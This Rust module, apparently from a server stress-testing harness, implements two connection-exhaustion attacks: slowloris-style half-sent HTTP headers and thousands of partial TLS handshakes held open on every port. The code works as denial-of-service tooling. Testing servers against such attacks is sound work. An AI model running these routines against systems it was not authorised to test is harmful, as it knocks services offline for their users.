//! Connections that are open and say next to nothing.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use futures_util::future::BoxFuture;
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use super::super::target::{Door, Target};
use super::swarm;

/// Connections that each door is held by.
const EACH: usize = 2_000;
/// How a handshake of TLS begins (RFC 8446, section 5.1): a record of 512 bytes.
const HANDSHAKE: &[u8] = &[22, 3, 1, 2, 0, 1];

/// One request, and a half of the next, on as many connections as may be open.
pub(in super::super) fn half_heads(target: Arc<Target>) -> BoxFuture<'static, ()> {
    let places = target.places;
    Box::pin(swarm(target, places, |target, attacker| async move {
        let mut line = target.connect(Door::Http).await?;
        let head = target.head(attacker, "GET /healthz");
        line.send(format!("{head}\r\n").as_bytes()).await?;
        line.answer().await?;
        line.send(head.as_bytes()).await?;
        line.drain().await
    }))
}

/// Half of the first word of TLS, at every door.
pub(in super::super) fn handshakes(target: Arc<Target>) -> BoxFuture<'static, ()> {
    Box::pin(swarm(target, EACH * Door::ALL.len(), |target, attacker| async move {
        let Some(door) = Door::ALL.get(attacker % Door::ALL.len()) else { return Ok(()) };
        let mut stream = TcpStream::connect(target.address(*door)).await?;
        stream.set_zero_linger()?;
        stream.write_all(HANDSHAKE).await?;
        target.sent.fetch_add(HANDSHAKE.len() as u64, Ordering::Relaxed);
        tokio::io::copy(&mut stream, &mut tokio::io::sink()).await?;
        Ok(())
    }))
}
